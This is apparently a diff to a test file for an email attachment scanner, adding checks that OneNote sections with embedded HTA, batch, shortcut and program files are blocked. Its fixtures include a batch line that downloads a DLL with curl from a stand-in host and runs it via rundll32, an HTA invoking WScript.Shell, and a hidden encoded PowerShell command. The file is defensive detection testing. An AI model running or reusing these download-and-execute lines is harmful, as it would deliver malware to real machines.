@@ -6,12 +6,12 @@ import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { test } from 'node:test';
-import { DEFAULT_BLOCK_EXTENSIONS, DEFAULT_RISKY_EXTENSIONS, extensionsOf, fetchedOnOpen, inspectAttachments, isOle, isWebPage, nameFindings, phishPageSign, programKind, type AttachmentPolicy } from '../../../src/content/attachments.ts';
+import { DEFAULT_BLOCK_EXTENSIONS, DEFAULT_RISKY_EXTENSIONS, extensionsOf, fetchedOnOpen, inspectAttachments, isOle, isWebPage, nameFindings, phishPageSign, programKind, scriptKind, type AttachmentPolicy } from '../../../src/content/attachments.ts';
 import { attachmentsCheck, attachmentsOptionsSchema, type AttachmentsOptions } from '../../../src/pipeline/checks/attachments.ts';
 import { parseMessage } from '../../../src/pipeline/index.ts';
 import { parseReply } from '../../../src/pipeline/verdict.ts';
 import type { CheckDeps, DataContext } from '../../../src/pipeline/types.ts';
-import { PDF, equationObject, ole10Native, oleDocument, outlookMessage, powerPointDocument, rtfDocument, webLinkedObject, windowsProgram } from '../../helpers/files.ts';
+import { PDF, equationObject, ole10Native, oleDocument, oneNoteSection, outlookMessage, powerPointDocument, rtfDocument, webLinkedObject, windowsProgram, windowsShortcut } from '../../helpers/files.ts';
 import { rar4Archive, rar5Archive } from '../../helpers/rar.ts';
 import { pdfDocument } from '../../helpers/pdf.ts';
 import { excelWorkbook, readWithXlrd } from '../../helpers/xls.ts';
@@ -54,6 +54,27 @@ test('programKind: a Windows program by its PE header, a Linux one by ELF; MZ te
   assert.equal(programKind(Buffer.from('\x7fELF\x02\x01\x01', 'latin1')), 'a Linux program');
   assert.equal(programKind(Buffer.from('MZ is the start of this plain text note, which is long enough to have an offset at 0x3c.')), null);
   assert.equal(programKind(PDF), null);
+  assert.equal(programKind(windowsShortcut()), 'a Windows shortcut');
+});
+
+test('OneNote sections: embedded programs, shortcuts and scripts are refused by content; documents pass', async () => {
+  const hta = Buffer.from('<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize"><script language="VBScript">Set s = CreateObject("WScript.Shell")</script></head></html>');
+  const section = oneNoteSection([PDF, hta, Buffer.from('@echo off\r\ncurl -o %TEMP%\\a.dll https://x.test/a && rundll32 %TEMP%\\a.dll,Run\r\n'), windowsShortcut(), windowsProgram()]);
+  assert.deepEqual(await summary([{ filename: 'Rechnung.one', content: section }]), [
+    'risky: Rechnung.one (.one)',
+    'blocked: Rechnung.one > (embedded file) (an HTML application (HTA))',
+    'blocked: Rechnung.one > (embedded file) (a batch script)',
+    'blocked: Rechnung.one > (no name) (a Windows shortcut)',
+    'blocked: Rechnung.one > (no name) (a Windows program)',
+  ]);
+  assert.deepEqual(await summary([{ filename: 'Notizen.one', content: oneNoteSection([PDF, Buffer.from('Besprechung am Montag: Budget 2027, Einkauf, Lager.')]) }]), ['risky: Notizen.one (.one)']);
+  assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['Rechnung.one', oneNoteSection([hta])]]) }]), [
+    'risky: docs.zip > Rechnung.one (.one)', 'blocked: docs.zip > Rechnung.one > (embedded file) (an HTML application (HTA))',
+  ]);
+  const cut = oneNoteSection([windowsProgram()]);
+  assert.deepEqual(await summary([{ filename: 'x.one', content: cut.subarray(0, 1030) }]), ['risky: x.one (.one)'], 'cut short');
+  assert.equal(scriptKind(Buffer.from('powershell -nop -w hidden -enc SQBFAFgA')), 'a PowerShell command');
+  assert.equal(scriptKind(Buffer.from('Meeting notes: echo the plan to the team, then off to lunch.')), null);
 });
 
 test('inspectAttachments: a program named as a PDF is blocked by its content', async () => {
